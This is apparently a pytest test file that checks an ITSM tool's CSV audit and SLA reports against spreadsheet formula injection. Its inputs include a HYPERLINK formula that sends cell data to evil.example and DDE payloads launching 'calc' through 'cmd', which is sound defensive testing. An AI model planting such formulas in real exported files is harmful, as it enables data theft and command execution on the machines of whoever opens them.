"""Output injection: `itsmctl audit --format csv` cells never start a spreadsheet formula.

A cell that starts with = + - @ (or a tab or carriage return, which some
spreadsheets skip before them) is read as a formula by Excel, LibreOffice and
Google Sheets (OWASP "CSV injection"). Titles, requesters and approvers come
from records and trailers, so each column that carries them gets each prefix;
the cell must keep the text, behind a leading ' that makes it plain text. A tab
or carriage return is shown as every text format shows it (a space, the escape
\\n: issue 11, item 11), and a cell that starts with white space and then a
formula character gets the ' too.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.attacks.hostile import yaml_string
from tests.conftest import GOLD_SLA, approval_policy, change, ci, service, team
from tests.gitrepo import GitRepo

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
WINDOW = ("2026-10-06T22:00:00+02:00", "2026-10-06T23:00:00+02:00")
FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"x")'


def _audit_csv(tmp_path: Path, run_cli, title: str, requester: str, approvers: list[str]) -> list[list[str]]:  # type: ignore[no-untyped-def]
    repo = GitRepo(tmp_path / "repo")
    repo.commit(
        "import",
        {
            "catalog/teams.yaml": team("ops", f"[{requester}]") + "---\n" + team("cab", f"[{', '.join(approvers)}]"),
            "catalog/cmdb.yaml": "\n---\n".join([GOLD_SLA, ci("db"), service("shop", tier=2, depends="[ci:db]")]),
            "policies/change.yaml": approval_policy("[{team: team:cab, count: 2}]"),
        },
        author="Admin <admin@acme.example>",
    )

    def merge(number: int, status: str, trailers: str = "") -> None:
        text = change("chg-1", "[ci:db]", *WINDOW, status=status)
        text = text.replace("title: Change chg-1", f"title: {yaml_string(title)}")
        repo.branch(f"pr-{number}", "main")
        repo.commit(
            f"work {number}", {"changes/chg-1.yaml": text.replace("requester: alice", f"requester: {requester}")}
        )
        repo.checkout("main")
        repo.merge(f"pr-{number}", f"Merge pull request #{number}\n\n{trailers}")

    merge(1, "requested")
    merge(2, "approved", "".join(f"Approved-by: Someone <{who}>\n" for who in approvers))
    result = run_cli("-C", str(repo.root), "audit", "--format", "csv")
    assert result.exit_code == 0
    return list(csv.reader(io.StringIO(result.stdout, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), repr(cell)


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        *((f"{start}{FORMULA}", f"'{start}{FORMULA}") for start in ("=", "+", "-", "@")),
        (f"\t{FORMULA}", f" {FORMULA}"),
        (f"\t={FORMULA}", f"' ={FORMULA}"),
        (f"\r{FORMULA}", f"\\n{FORMULA}"),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "tab-equals", "cr"],
)
def test_change_title_cannot_be_a_formula(tmp_path: Path, run_cli, title: str, cell: str) -> None:  # type: ignore[no-untyped-def]
    rows = _audit_csv(tmp_path, run_cli, title, "alice@acme.example", ["carol@acme.example", "dave@acme.example"])
    header, row = rows
    assert len(row) == len(header)  # a \r in the value did not split the row
    assert row[header.index("title")] == cell  # kept in full, as text
    assert row[header.index("approvals")] == "carol@acme.example dave@acme.example"
    _assert_no_formula(rows)


@pytest.mark.parametrize("start", ["=", "+", "-"], ids=["equals", "plus", "minus"])
def test_requester_and_approver_addresses_cannot_be_formulas(tmp_path: Path, run_cli, start: str) -> None:  # type: ignore[no-untyped-def]
    # The schema's e-mail pattern accepts these local parts; "@" cannot start an address.
    requester = f"{start}cmd|calc@evil.example"
    approvers = [f"{start}1+1@acme.example", "carol@acme.example"]
    rows = _audit_csv(tmp_path, run_cli, "A harmless title", requester, approvers)
    header, row = rows
    assert row[header.index("requester")] == "'" + requester
    assert row[header.index("approvals")] == "'" + " ".join(sorted(approvers))
    _assert_no_formula(rows)


def test_every_csv_table_uses_one_guard_even_after_leading_white_space(make_repo, run_cli) -> None:  # type: ignore[no-untyped-def]
    """The "left out" table of `sla report --format csv` had its own guard, blind to ' =...' (issue 11, leftovers 7).

    A file name is chosen by whoever opens the pull request. In a repository without catalog/, changes/
    or policies/ (records anywhere) a path can start with a space and a formula.
    """
    formula = " =1+2*cmd|' /C calc'!A0.yaml"
    root = make_repo(
        {
            "base.yaml": "\n---\n".join([team(), GOLD_SLA, service("shop", tier=2)]),
            formula: "apiVersion: itsm/v1\nkind: Service\nmetadata: {name: cart}\n",  # invalid: no spec
        }
    )
    result = run_cli("-C", str(root), "sla", "report", "--period", "2026-11", "--format", "csv", "--allow-invalid")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    header = ["omitted_path", "line", "kind", "name", "rule", "reason"]
    [row] = rows[rows.index(header) + 1 :]
    assert row[0] == "'" + formula  # kept in full, as text
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(FORMULA_STARTS), repr(cell)
